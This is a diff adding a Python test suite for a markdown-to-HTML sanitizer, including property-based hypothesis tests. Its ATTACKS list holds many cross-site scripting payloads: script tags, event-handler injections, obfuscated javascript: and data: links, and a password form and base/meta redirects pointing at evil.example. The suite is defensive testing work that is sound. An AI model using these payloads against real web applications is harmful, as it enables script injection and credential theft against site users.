@@ -1,0 +1,166 @@
+"""Markdown of people and tools: what it may say, and that nothing in it runs, loads or leads astray."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kb.web.markdown import to_html
+
+ALLOWED = {
+    *("p", "br", "hr", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
+    *("h2", "h3", "h4", "h5", "h6", "div", "table", "thead", "tbody", "tr", "th", "td"),
+}
+ALLOWED_ATTRIBUTES = {
+    "a": {"href", "rel"},
+    "ol": {"start"},
+    "th": {"class"},
+    "td": {"class"},
+    "div": {"class", "tabindex", "role", "aria-label"},
+}
+
+
+class Elements(HTMLParser):
+    """As a browser would see them: every element, and every address."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def assert_harmless(html: str) -> None:
+    for tag, attributes in Elements(html).found:
+        assert tag in ALLOWED, html
+        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), html
+        if tag == "a":
+            assert re.match(r"(https?|mailto):", attributes["href"], re.IGNORECASE), html
+            assert attributes["rel"] == "noopener nofollow ugc"
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img src=x onerror="alert(1)">',
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<style>body{display:none}</style>",
+    '<p style="position:fixed">x</p>',
+    '<a href="javascript:alert(1)">x</a>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<details open ontoggle=alert(1)>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](javascript:alert(1))",
+    '![x](https://evil.example/"onerror="alert(1))',
+    '[x](https://evil.example/"onclick="alert(1) "y" onclick=alert(1))',
+    "[x](//evil.example)",
+    "[x](/incidents/INC-1)",
+    "[x](file:///etc/passwd)",
+    "<javascript:alert(1)>",
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    '[x][y]\n\n[y]: https://a.example "t\\" onmouseover=\\"alert(1)"',
+    "```<script>\nalert(1)\n```",
+    '``` "onclick=alert(1)\nx\n```',
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "`<img src=x onerror=alert(1)>`",
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\x3cscript\x3ealert(1)\x3c/script\x3e",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_attack_becomes_markup_that_runs_loads_or_leads_astray(attack):
+    for text in (attack, f"before {attack} after", f"- {attack}\n- b", f"> {attack}", f"# {attack}"):
+        assert_harmless(to_html(text))
+
+
+pieces = st.sampled_from(
+    [*ATTACKS, "[", "](", ")", "![", "<", ">", '"', "'", "`", "```\n", "|", "\n", "\n\n", "# ", "- ", "> ", "*", "_"]
+    + ["javascript:", "https://a.example", "&#", ";", "\\", "&", "<a href=", "|-|", "1. ", "\t", "    "]
+)
+
+
+@given(st.lists(pieces | st.text(max_size=10), max_size=12).map("".join))
+def test_no_text_at_all_becomes_anything_but_the_short_list_of_elements(text):
+    assert_harmless(to_html(text))
+
+
+@given(st.lists(pieces, max_size=12).map("".join), st.integers(2, 6))
+def test_no_heading_rises_above_the_level_the_page_leaves_to_it(text, level):
+    for tag, _ in Elements(to_html(text, first_heading=level)).found:
+        assert not re.fullmatch("h[1-6]", tag) or int(tag[1]) >= level
+
+
+def test_what_people_write_every_day_is_shown():
+    html = to_html(
+        "Three *retries* **each**, `net.js:123`, see [the graph](https://dash.example/?a=1&b=2).\n\n"
+        "1. one\n2. two\n\n> quoted\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n"
+    )
+    assert "<em>retries</em> <strong>each</strong>, <code>net.js:123</code>" in html
+    assert '<a href="https://dash.example/?a=1&amp;b=2" rel="noopener nofollow ugc">the graph</a>' in html
+    assert "<ol>\n<li>one</li>" in html
+    assert "<blockquote>" in html
+    assert '<td class="to-center">1</td>' in html
+    assert '<td class="to-right">2</td>' in html
+
+
+def test_markup_is_shown_as_it_was_written():
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in to_html("<script>alert(1)</script>")
+    assert "[x](javascript:alert(1))" in to_html("[x](javascript:alert(1))")
+
+
+def test_pictures_become_links_so_that_nobody_learns_who_reads():
+    html = to_html("![the graph](https://evil.example/pixel.png)")
+    assert "<img" not in html
+    assert '<a href="https://evil.example/pixel.png" rel="noopener nofollow ugc">the graph</a>' in html
+
+
+def test_a_picture_inside_a_link_is_its_words():
+    html = to_html("[![graph](https://a.example/p.png)](https://b.example)")
+    assert html.count("<a ") == 1
+    assert ">graph</a>" in html
+
+
+def test_headings_leave_no_level_out():
+    assert "<h3>a</h3>" in to_html("## a")
+    html = to_html("# a\n\n### b\n\n# c")
+    assert "<h3>a</h3>" in html
+    assert "<h4>b</h4>" in html
+    assert "<h3>c</h3>" in html
+
+
+def test_bare_addresses_are_left_alone_because_linkify_is_off():
+    assert "<a" not in to_html("see https://a.example now")
+
+
+@pytest.mark.parametrize("text", ["*a " * 40_000, "[" * 100_000, "> " * 50_000, "`a``" * 30_000, "<a " * 60_000])
+def test_a_section_as_large_as_may_be_is_rendered_in_seconds(text):
+    assert to_html(text)
